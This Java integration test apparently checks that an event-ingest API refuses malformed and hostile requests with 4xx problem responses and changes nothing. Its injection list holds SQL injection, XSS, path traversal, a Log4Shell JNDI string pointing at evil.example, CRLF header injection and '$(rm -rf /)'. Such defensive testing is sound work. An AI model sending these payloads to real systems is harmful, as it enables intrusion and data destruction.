package org.vigil.ingest.hostile;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.vigil.ingest.testing.Fixtures.registration;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Consumer;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import org.junit.jupiter.api.Test;
import org.vigil.ingest.json.HostileSamples;
import org.vigil.ingest.testing.IngestInfraResource;

/**
 * A generated suite of malformed and hostile requests against the running service: every event type's sample,
 * mutated field by field (wrong JSON types, unknown fields, numbers too large, negative or fractional, impossible
 * dates, injection strings in every field whose value is constrained: types, ids, enumerations, dates, codes,
 * references), and whole-request attacks (broken and deeply nested JSON, invalid UTF-8, duplicate keys, bodies over
 * the limit, batches over the limit, hostile path and query parameters and headers). Each must be answered 4xx with
 * an RFC 9457 problem, never 5xx, and nothing may be appended: the log's head and the population's version are the
 * same after the suite as before it.
 *
 * <p>Injection strings in free-text fields (a summary, a source's title, a place name) are legitimate text, not
 * errors: they are stored verbatim (see {@link #injection_strings_in_free_text_are_stored_verbatim}).
 */
@QuarkusTest
@QuarkusTestResource(IngestInfraResource.class)
class HostileInputTest {

    @org.junit.jupiter.api.BeforeEach
    void authenticate() {
        org.vigil.ingest.testing.Tokens.useEverywhere();
    }

    private static final ObjectMapper JSON = new ObjectMapper();

    static final List<String> INJECTIONS = List.of(
            "'; DROP TABLE events; --", "\" OR 1=1 --", "<script>alert(1)</script>", "../../../../etc/passwd",
            "${jndi:ldap://evil.example/a}", "{{7*7}}", "%00%0d%0aSet-Cookie:x=1", "\u0000", "\u202Egnp.exe",
            "$(rm -rf /)", "' UNION SELECT hash FROM events --", "😈".repeat(3));

    /** Fields whose value the contract constrains (enumerations, ids, dates, codes, references, counts). */
    static final Set<String> CONSTRAINED = Set.of("type", "eventId", "confidentiality", "precision", "date", "at",
            "earliest", "latest", "country", "coordinatePrecision", "source", "ref", "qualifier", "affiliation",
            "reliability", "kind", "voluntariness", "action", "step", "attribution", "target", "restriction",
            "effectiveFrom", "effectiveUntil", "method", "channel", "restricts", "designation");

    static final List<String> BAD_DATES = List.of("2009-02-30", "2009-13-01", "0000-00-00", "99999-01-01",
            "-2009-01-01", "2009-1-1", "20090101", "2009-01-01T25:61:00Z", "1e10", "");

    record Attempt(String description, Consumer<RequestSpecification> request, String method, String path) {
    }

    private String population;

    @Test
    void a_thousand_hostile_requests_are_refused_with_problems_and_append_nothing() throws Exception {
        population = given().contentType(ContentType.JSON).body(registration("Hostile input target")).when()
                .post("/populations").then().statusCode(201).extract().path("populationId");
        Map<String, Object> headBefore = given().get("/log/head").then().statusCode(200).extract().as(Map.class);
        long versionBefore = version();

        List<Attempt> attempts = new ArrayList<>();
        for (ObjectNode sample : HostileSamples.all()) {
            attempts.addAll(mutations(sample));
        }
        attempts.addAll(wholeRequestAttacks());
        assertThat(attempts.size()).as("requests in the suite").isGreaterThanOrEqualTo(1000);

        List<String> failures = new ArrayList<>();
        for (Attempt a : attempts) {
            int status;
            String type;
            String body;
            if (a.method().equals("OVERSIZE")) {
                // The body is refused from its Content-Length: send the headers first (Expect: 100-continue).
                java.net.http.HttpResponse<String> r = java.net.http.HttpClient.newBuilder().version(java.net.http.HttpClient.Version.HTTP_1_1).build().send(
                        java.net.http.HttpRequest.newBuilder(java.net.URI.create(io.restassured.RestAssured.baseURI + ":"
                                        + io.restassured.RestAssured.port + a.path()))
                                .expectContinue(true).header("Content-Type", "application/json")
                                .POST(java.net.http.HttpRequest.BodyPublishers.ofByteArray(new byte[65 * 1024 * 1024])).build(),
                        java.net.http.HttpResponse.BodyHandlers.ofString());
                status = r.statusCode();
                type = r.headers().firstValue("Content-Type").orElse("");
                body = r.body();
            } else {
                RequestSpecification spec = given();
                a.request().accept(spec);
                Response r = a.method().equals("GET") ? spec.when().get(a.path()) : spec.when().post(a.path());
                status = r.statusCode();
                type = r.contentType() == null ? "" : r.contentType();
                body = r.asString();
            }
            if (status < 400 || status >= 500) {
                failures.add(status + " for " + a.description() + ": " + abbreviate(body));
            } else if (!type.startsWith("application/problem+json")) {
                failures.add(status + " without problem+json (" + type + ") for " + a.description());
            } else {
                JsonNode problem = JSON.readTree(body);
                if (!problem.hasNonNull("type") || !problem.hasNonNull("title") || problem.path("status").asInt() != status) {
                    failures.add("incomplete problem for " + a.description() + ": " + abbreviate(body));
                }
                // no library's own words reach the client: they name classes and limits it cannot act on
                for (String leak : List.of("Cannot coerce", "Cannot deserialize", "StreamReadConstraints", "com.fasterxml",
                        "java.lang", "Unrecognized token", "Unexpected character")) {
                    if (body.contains(leak)) failures.add("library text (" + leak + ") for " + a.description() + ": " + abbreviate(body));
                }
            }
        }
        System.out.printf("hostile-input suite: %d requests, %d not refused properly%n", attempts.size(), failures.size());
        assertThat(failures).as("requests not answered 4xx problem+json (of " + attempts.size() + ")").isEmpty();

        Map<String, Object> headAfter = given().get("/log/head").then().statusCode(200).extract().as(Map.class);
        assertThat(headAfter).as("the log's head").isEqualTo(headBefore);
        assertThat(version()).as("the population's version").isEqualTo(versionBefore);
    }

    @Test
    void injection_strings_in_free_text_are_stored_verbatim() {
        String id = given().contentType(ContentType.JSON).body(registration("Free text target")).when()
                .post("/populations").then().statusCode(201).extract().path("populationId");
        for (String text : List.of("'; DROP TABLE events; --", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}")) {
            ObjectNode event = HostileSamples.all().stream().filter(s -> s.path("type").asText().startsWith("vigil.attack"))
                    .findFirst().orElseThrow().deepCopy();
            event.remove("eventId");
            event.put("summary", text);
            String eventId = given().contentType(ContentType.JSON).body(event.toString()).when()
                    .post("/populations/" + id + "/events").then().statusCode(201).extract().path("eventId");
            String stored = given().get("/populations/" + id + "/events/" + eventId).then().statusCode(200)
                    .extract().path("data.summary");
            assertThat(stored).isEqualTo(text);
        }
        given().get("/log/verify").then().statusCode(200).body("valid", org.hamcrest.Matchers.is(true));
    }

    /**
     * Text PostgreSQL cannot keep (U+0000) or that is not Unicode at all (a lone surrogate) is refused in every string
     * field of every event type, single and in a batch, with the field and the rule named; nothing is appended. Found
     * from outside: a retraction whose reason held U+0000 was accepted and then halted every view downstream.
     */
    @Test
    void text_that_cannot_be_stored_is_refused_in_every_field_with_its_path() throws Exception {
        population = given().contentType(ContentType.JSON).body(registration("Unstorable text target")).when()
                .post("/populations").then().statusCode(201).extract().path("populationId");
        Map<String, Object> headBefore = given().get("/log/head").then().statusCode(200).extract().as(Map.class);
        int checked = 0;
        for (ObjectNode sample : HostileSamples.all()) {
            List<List<Object>> paths = new ArrayList<>();
            walk(sample, new ArrayList<>(), paths);
            for (List<Object> path : paths) {
                if (!at(sample, path).isTextual()) continue;
                for (String bad : List.of("before\\u0000after", "\\ud800 alone")) {
                    String body = replaced(sample, path, JsonNodeFactory.instance.textNode("@@BAD@@")).replace("@@BAD@@", bad);
                    String field = jsonPath(path);
                    Response r = given().contentType(ContentType.JSON).body(body.getBytes(StandardCharsets.UTF_8))
                            .when().post("/populations/" + population + "/events");
                    assertThat(r.statusCode()).as(sample.path("type").asText() + " " + field + " = " + bad).isEqualTo(422);
                    assertThat(r.contentType()).startsWith("application/problem+json");
                    JsonNode errors = JSON.readTree(r.asString()).path("errors");
                    assertThat(errors.findValuesAsText("field")).as("fields named for " + field).contains(field);
                    assertThat(errors.findValuesAsText("rule")).contains("text.storable");
                    checked++;
                }
            }
        }
        assertThat(checked).isGreaterThan(100);
        // A retraction's reason, the case found from outside, and the same in an NDJSON batch (its line named).
        String retraction = "{\"type\":\"vigil.event.retracted.v1\",\"target\":\"" + java.util.UUID.randomUUID()
                + "\",\"reason\":\"dup\\u0000licate\"}";
        given().contentType(ContentType.JSON).body(retraction).when().post("/populations/" + population + "/events")
                .then().statusCode(422).body("errors.field", org.hamcrest.Matchers.hasItem("reason"))
                .body("errors.rule", org.hamcrest.Matchers.hasItem("text.storable"));
        String valid = HostileSamples.all().get(1).toString();
        given().urlEncodingEnabled(false).contentType("application/x-ndjson").body((valid + "\n" + retraction + "\n").getBytes(StandardCharsets.UTF_8)).when()
                .post("/populations/" + population + "/events:batch")
                .then().statusCode(422).body("errors.line", org.hamcrest.Matchers.hasItem(2))
                .body("errors.rule", org.hamcrest.Matchers.hasItem("text.storable"));
        // A field name holding U+0000 is named too.
        given().contentType(ContentType.JSON).body("{\"x\\u0000\":1," + valid.substring(1)).when()
                .post("/populations/" + population + "/events").then().statusCode(422)
                .body("errors.rule", org.hamcrest.Matchers.hasItem("text.storable"));
        assertThat(given().get("/log/head").then().statusCode(200).extract().as(Map.class)).isEqualTo(headBefore);
    }

    private static String jsonPath(List<Object> path) {
        StringBuilder out = new StringBuilder();
        for (Object p : path) {
            if (p instanceof Integer i) out.append('[').append(i).append(']');
            else out.append(out.isEmpty() ? "" : ".").append(p);
        }
        return out.toString();
    }

    private long version() {
        return ((Number) given().get("/populations/" + population).then().statusCode(200).extract().path("version")).longValue();
    }

    private static String abbreviate(String s) {
        return s.length() > 300 ? s.substring(0, 300) + "..." : s;
    }

    // ---- mutations of one event ------------------------------------------------------------------------------------

    private List<Attempt> mutations(ObjectNode sample) {
        List<Attempt> out = new ArrayList<>();
        String type = sample.path("type").asText();
        List<List<Object>> paths = new ArrayList<>();
        walk(sample, new ArrayList<>(), paths);
        for (List<Object> path : paths) {
            JsonNode original = at(sample, path);
            String name = String.valueOf(path.getLast());
            String where = type + " " + path;
            for (JsonNode wrong : wrongTypes(original)) {
                out.add(event(where + " as " + wrong, replaced(sample, path, wrong)));
            }
            if (original.isNumber()) {
                List<String> numbers = original.isIntegralNumber()
                        ? List.of("1e400", "123456789012345678901234567890", "-1", "2.5", "-1e308")
                        : List.of("1e400", "123456789012345678901234567890", "-1e308", "1000.5");
                for (String number : numbers) {
                    out.add(event(where + " = " + number, rawReplaced(sample, path, number)));
                }
            }
            if (original.isTextual() && CONSTRAINED.contains(name)) {
                for (String injection : INJECTIONS) {
                    out.add(event(where + " = injection " + injection, replaced(sample, path, JsonNodeFactory.instance.textNode(injection))));
                }
                if (Set.of("date", "at", "earliest", "latest", "effectiveFrom", "effectiveUntil").contains(name)) {
                    for (String date : BAD_DATES) {
                        out.add(event(where + " = date " + date, replaced(sample, path, JsonNodeFactory.instance.textNode(date))));
                    }
                }
            }
            if (original.isObject()) {
                ObjectNode extra = sample.deepCopy();
                ((ObjectNode) at(extra, path)).put("zzUnknownField", 1);
                out.add(event(where + " with an unknown field", extra.toString()));
            }
        }
        ObjectNode top = sample.deepCopy();
        top.put("zzUnknownField", "x");
        out.add(event(type + " with an unknown top-level field", top.toString()));
        ObjectNode noType = sample.deepCopy();
        noType.remove("type");
        out.add(event(type + " without its type", noType.toString()));
        return out;
    }

    private Attempt event(String description, String body) {
        return new Attempt(description, spec -> spec.contentType(ContentType.JSON).body(body.getBytes(StandardCharsets.UTF_8)),
                "POST", "/populations/" + population + "/events");
    }

    private static List<JsonNode> wrongTypes(JsonNode original) {
        JsonNodeFactory f = JsonNodeFactory.instance;
        List<JsonNode> out = new ArrayList<>();
        if (!original.isTextual()) out.add(f.textNode("12"));
        if (!original.isNumber()) out.add(f.numberNode(12));
        if (!original.isBoolean()) out.add(f.booleanNode(true));
        if (!original.isObject()) out.add(f.objectNode().put("x", 1));
        if (!original.isArray()) out.add(f.arrayNode().add("x"));
        // A string where an object or array is expected, and vice versa, is covered above; null is allowed for
        // optional fields, so it is not in the list.
        return out;
    }

    private static void walk(JsonNode node, List<Object> path, List<List<Object>> out) {
        if (!path.isEmpty()) out.add(List.copyOf(path));
        if (node.isObject()) {
            for (Iterator<Map.Entry<String, JsonNode>> it = node.fields(); it.hasNext(); ) {
                Map.Entry<String, JsonNode> e = it.next();
                if (path.isEmpty() && e.getKey().equals("type")) continue; // the type itself: see the injections below
                path.add(e.getKey());
                walk(e.getValue(), path, out);
                path.removeLast();
            }
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                path.add(i);
                walk(node.get(i), path, out);
                path.removeLast();
            }
        }
    }

    private static JsonNode at(JsonNode root, List<Object> path) {
        JsonNode n = root;
        for (Object p : path) n = p instanceof Integer i ? n.get(i) : n.get((String) p);
        return n;
    }

    private static String replaced(ObjectNode sample, List<Object> path, JsonNode value) {
        ObjectNode copy = sample.deepCopy();
        JsonNode parent = at(copy, path.subList(0, path.size() - 1));
        Object last = path.getLast();
        if (last instanceof Integer i) ((ArrayNode) parent).set(i, value);
        else ((ObjectNode) parent).set((String) last, value);
        return copy.toString();
    }

    /** Replaces a value by raw JSON text (numbers Jackson would not keep as written). */
    private static String rawReplaced(ObjectNode sample, List<Object> path, String raw) {
        String marker = "\"@@RAW@@\"";
        return replaced(sample, path, JsonNodeFactory.instance.textNode("@@RAW@@")).replace(marker, raw);
    }

    // ---- whole requests -------------------------------------------------------------------------------------------

    private List<Attempt> wholeRequestAttacks() {
        List<Attempt> out = new ArrayList<>();
        String events = "/populations/" + population + "/events";
        String batch = "/populations/" + population + "/events:batch";
        String valid = HostileSamples.all().get(1).toString();

        out.add(raw("truncated JSON", events, ContentType.JSON, valid.substring(0, valid.length() / 2).getBytes(StandardCharsets.UTF_8)));
        out.add(raw("empty body", events, ContentType.JSON, new byte[0]));
        out.add(raw("JSON null", events, ContentType.JSON, "null".getBytes(StandardCharsets.UTF_8)));
        out.add(raw("JSON array", events, ContentType.JSON, ("[" + valid + "]").getBytes(StandardCharsets.UTF_8)));
        out.add(raw("a bare string", events, ContentType.JSON, "\"event\"".getBytes(StandardCharsets.UTF_8)));
        out.add(raw("trailing tokens", events, ContentType.JSON, (valid + " {}").getBytes(StandardCharsets.UTF_8)));
        out.add(raw("duplicate key", events, ContentType.JSON,
                valid.replaceFirst("\\{", "{\"confidentiality\":\"confidential\",").getBytes(StandardCharsets.UTF_8)));
        for (int depth : new int[] {65, 500, 100_000}) {
            String nested = "{\"summary\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
            out.add(raw("nesting " + depth + " deep", events, ContentType.JSON, nested.getBytes(StandardCharsets.UTF_8)));
        }
        byte[] invalidUtf8 = valid.replace("\"confidentiality\"", "\"confidentiality\u00e9\"").getBytes(StandardCharsets.ISO_8859_1);
        out.add(raw("invalid UTF-8 in a key", events, ContentType.JSON, invalidUtf8));
        byte[] utf8 = valid.getBytes(StandardCharsets.UTF_8);
        byte[] broken = new byte[utf8.length + 3];
        System.arraycopy(utf8, 0, broken, 0, utf8.length - 1);
        broken[utf8.length - 1] = (byte) 0xC3;
        broken[utf8.length] = (byte) 0x28;
        broken[utf8.length + 1] = (byte) 0xFF;
        broken[utf8.length + 2] = '}';
        out.add(raw("invalid UTF-8 bytes", events, ContentType.JSON, broken));
        out.add(raw("a number too long", events, ContentType.JSON,
                valid.replaceFirst("\"(low|best|high)\":\\d+", "\"best\":" + "9".repeat(5000)).getBytes(StandardCharsets.UTF_8)));
        out.add(raw("a string of 2 MB", events, ContentType.JSON,
                ("{\"type\":\"vigil.attack.recorded.v1\",\"summary\":\"" + "x".repeat(2_000_000) + "\"}").getBytes(StandardCharsets.UTF_8)));
        out.add(raw("text/plain", events, ContentType.TEXT, valid.getBytes(StandardCharsets.UTF_8)));
        out.add(raw("XML", events, ContentType.XML, "<event/>".getBytes(StandardCharsets.UTF_8)));
        out.add(new Attempt("a body over the 64 MB limit", s -> { }, "OVERSIZE", batch));

        // Batches: a bad line, a line of garbage, too many events, CSV with injections in constrained columns.
        out.add(new Attempt("ndjson with a broken line", s -> s.contentType("application/x-ndjson")
                .body((valid + "\n{\"type\":\n" + valid + "\n").getBytes(StandardCharsets.UTF_8)), "POST", batch));
        out.add(new Attempt("ndjson with an injection type", s -> s.contentType("application/x-ndjson")
                .body((valid + "\n{\"type\":\"'; DROP TABLE events; --\"}\n").getBytes(StandardCharsets.UTF_8)), "POST", batch));
        StringBuilder tooMany = new StringBuilder();
        for (int i = 0; i < 2001; i++) tooMany.append(valid).append('\n');
        out.add(new Attempt("2,001 events (over the batch limit)", s -> s.contentType("application/x-ndjson")
                .body(tooMany.toString().getBytes(StandardCharsets.UTF_8)), "POST", batch));
        for (String injection : INJECTIONS) {
            String csv = "type,occurred.precision,occurred.date,confidentiality,killed.low,killed.qualifier,killed.source\n"
                    + "vigil.attack.recorded.v1,day,2009-07-28," + csvCell(injection) + ",10,exact,ai\n";
            out.add(new Attempt("CSV with confidentiality " + injection, s -> s.contentType("text/csv")
                    .body(csv.getBytes(StandardCharsets.UTF_8)), "POST", batch));
        }

        // Hostile path parameters, query parameters and headers.
        for (String injection : INJECTIONS) {
            String encoded = java.net.URLEncoder.encode(injection, StandardCharsets.UTF_8);
            out.add(new Attempt("population id " + injection, s -> s.contentType(ContentType.JSON).body(valid).urlEncodingEnabled(false),
                    "POST", "/populations/" + encoded + "/events"));
            out.add(new Attempt("GET population " + injection, s -> s.urlEncodingEnabled(false), "GET", "/populations/" + encoded));
            out.add(new Attempt("GET events after=" + injection, s -> s.queryParam("after", injection), "GET", events));
            out.add(new Attempt("GET events limit=" + injection, s -> s.queryParam("limit", injection), "GET", events));
            out.add(new Attempt("GET event id " + injection, s -> s.urlEncodingEnabled(false), "GET", events + "/" + encoded));
            out.add(new Attempt("GET log position " + injection, s -> s.urlEncodingEnabled(false), "GET", "/log/positions/" + encoded));
            out.add(new Attempt("GET version atPosition=" + injection, s -> s.queryParam("atPosition", injection), "GET",
                    "/populations/" + population + "/version"));
            out.add(new Attempt("If-Match " + injection, s -> s.contentType(ContentType.JSON).body(valid)
                    .header("If-Match", injection.replaceAll("[\\r\\n\\u0000]", "") + "x"), "POST", events));
        }
        for (String limit : List.of("0", "-1", "1000000", "99999999999999999999", "1.5", "ten")) {
            out.add(new Attempt("GET events limit=" + limit, s -> s.queryParam("limit", limit), "GET", events));
        }
        for (String after : List.of("-1", "99999999999999999999", "1e3", "x")) {
            out.add(new Attempt("GET events after=" + after, s -> s.queryParam("after", after), "GET", events));
        }
        out.add(new Attempt("Idempotency-Key of 10,000 characters", s -> s.contentType(ContentType.JSON).body(valid)
                .header("Idempotency-Key", "k".repeat(10_000)), "POST", events));
        out.add(new Attempt("registration with an injection type", s -> s.contentType(ContentType.JSON)
                .body(registration("x").replace("vigil.population.registered.v2", "'; DROP TABLE streams; --")), "POST", "/populations"));
        return out;
    }

    private static String csvCell(String s) {
        return "\"" + s.replace("\"", "\"\"") + "\"";
    }

    private static Attempt raw(String description, String path, ContentType type, byte[] body) {
        return new Attempt(description, s -> s.contentType(type).body(body), "POST", path);
    }
}
